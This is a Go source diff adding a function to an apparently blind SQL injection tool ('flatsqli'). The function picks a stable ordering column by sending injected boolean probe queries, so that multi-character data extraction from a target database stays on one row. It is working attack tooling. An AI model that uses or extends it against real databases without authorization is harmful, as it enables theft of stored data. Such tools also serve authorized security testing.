@@ -0,0 +1,57 @@
+package finder
+
+import (
+	"errors"
+	"fmt"
+
+	"github.com/morkin1792/flatsqli/internal/calibrator"
+	"github.com/morkin1792/flatsqli/internal/ui"
+)
+
+// maxOrderCandidates is how many leading columns are tried as the ordering column
+const maxOrderCandidates = 3
+
+// rowOrder returns the column used to order a table's rows, so every probe of a
+// multi-character extraction hits the same row. Columns come in ordinal order, so
+// the first is usually the primary key. Each candidate is checked once with a
+// probe, since some types (e.g. CLOB, TEXT on MSSQL) cannot be ordered by.
+// Returns "" when none works, falling back to the database's natural order.
+// Candidates answering with the ERROR page are skipped.
+func (f *Finder) rowOrder(tableName string, columns []string) string {
+	if order, ok := f.orderColumns[tableName]; ok {
+		return order
+	}
+
+	order := ""
+	for i, col := range columns {
+		if i >= maxOrderCandidates {
+			break
+		}
+		query := fmt.Sprintf("SELECT COUNT(*) FROM (%s) z", f.getCellQuery(tableName, col, col, 0))
+		isTrue, err := f.calibration.Probe(f.requester, f.payloadGen.GetComparisonPayload(query, 0))
+		if errors.Is(err, calibrator.ErrErrorResponse) || errors.Is(err, calibrator.ErrUnknownResponse) {
+			// Unorderable types break the query, the next candidate may work
+			ui.Verbose(f.verbose, "Cannot order %s by %s: %v", tableName, col, err)
+			continue
+		}
+		if err != nil {
+			// Transport errors and stopped runs say nothing about the columns,
+			// so nothing is cached and a later call checks again
+			ui.Verbose(f.verbose, "Could not check ordering by %s: %v", col, err)
+			return ""
+		}
+		if isTrue {
+			order = col
+			break
+		}
+		ui.Verbose(f.verbose, "Cannot order %s by %s", tableName, col)
+	}
+
+	if order != "" {
+		ui.Verbose(f.verbose, "Ordering rows of %s by %s", tableName, order)
+	} else {
+		ui.Verbose(f.verbose, "No orderable column found for %s, row order may be unstable", tableName)
+	}
+	f.orderColumns[tableName] = order
+	return order
+}